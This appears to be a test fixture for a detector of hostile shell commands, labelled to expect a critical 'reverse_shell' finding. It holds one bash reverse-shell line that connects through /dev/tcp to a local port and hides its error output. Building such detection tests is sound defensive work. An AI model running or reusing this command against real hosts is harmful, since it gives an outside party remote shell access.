# about: the descriptor has a high number, and the error stream goes elsewhere
# expect: reverse_shell critical
# needs: python3 bash
peer 4402
bash -c '0<&196;exec 196<>/dev/tcp/127.0.0.1/4402; sh <&196 >&196 2>/dev/null' || true
done_typing
